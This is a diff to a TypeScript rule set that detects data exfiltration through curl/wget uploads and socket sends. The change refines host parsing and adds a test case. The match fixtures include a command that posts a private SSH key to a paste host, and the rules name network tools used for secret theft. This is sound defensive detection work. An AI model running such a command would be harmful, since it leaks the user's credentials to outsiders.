@@ -75,7 +75,8 @@ const httpUpload: CommandRule = {
   technique: "T1048",
   match(inv, all, index): RuleHit | undefined {
     if (!["curl", "wget", "http", "https", "xh", "curlie"].includes(inv.name)) return undefined;
-    const url = inv.args.find((w) => hostOf(w) !== undefined) ?? "";
+    // The URL: a word with a scheme first; -u user:pass or -H 'Host: x' are not destinations.
+    const url = inv.args.find((w) => /^[a-z][a-z0-9+.-]*:\/\//i.test(w)) ?? inv.args.find((w, i) => !w.startsWith("-") && !/^-(u|H|d|F|e|A|b|c|o|x|K|E)$|^--(user|header|data|form|referer|cookie|proxy|output)/.test(inv.args[i - 1] ?? "") && hostOf(w) !== undefined) ?? "";
     const host = hostOf(url) ?? "";
     const { files, stdin } = uploads(inv);
     const writer = stdin ? previous(all, index) : undefined;
@@ -94,7 +95,7 @@ const httpUpload: CommandRule = {
       `curl -X POST -d "$(cat ~/.ssh/id_rsa)" https://paste.example.com`,
       `curl -F f=@/etc/hosts http://127.0.0.1:5758/submit`,
     ],
-    noMatch: [`curl -fsSL https://example.com/install.sh -o install.sh`, `curl -X POST -d '{"a":1}' http://localhost:3000/api`, `curl -F file=@report.pdf http://localhost:8080/upload`, `wget https://pypi.org/simple/`],
+    noMatch: [`curl -u user:pw -F f=@README.md http://localhost:8080/up`, `curl -fsSL https://example.com/install.sh -o install.sh`, `curl -X POST -d '{"a":1}' http://localhost:3000/api`, `curl -F file=@report.pdf http://localhost:8080/upload`, `wget https://pypi.org/simple/`],
   },
 };
 
@@ -175,7 +176,8 @@ const socketSend: CommandRule = {
     if (inv.name === "openssl" && inv.args[0] !== "s_client") return undefined;
     const listen = inv.args.some((a) => /^-[a-zA-Z]*[lz]/.test(a) || a === "--listen");
     if (listen || inv.args.some((a) => /^-[a-zA-Z]*e$|^--exec$|^-c$|exec:/i.test(a))) return undefined; // listeners and shells: not a send
-    const host = inv.name === "socat" ? /tcp[46]?:([^:]+):/i.exec(inv.command.text)?.[1] : inv.args.find((a) => !a.startsWith("-") && /^[\w.-]+$/.test(a) && !/^\d+$/.test(a));
+    const connect = inv.name === "openssl" && inv.args.includes("-connect") ? inv.args[inv.args.indexOf("-connect") + 1] : undefined;
+    const host = inv.name === "openssl" ? connect?.split(":")[0] : inv.name === "socat" ? /tcp[46]?:([^:]+):/i.exec(inv.command.text)?.[1] : inv.args.find((a) => !a.startsWith("-") && /^[\w.-]+$/.test(a) && !/^\d+$/.test(a));
     if (!host) return undefined;
     const fileIn = inv.command.redirects.find((r) => r.op === "<")?.target;
     const writer = previous(all, index);
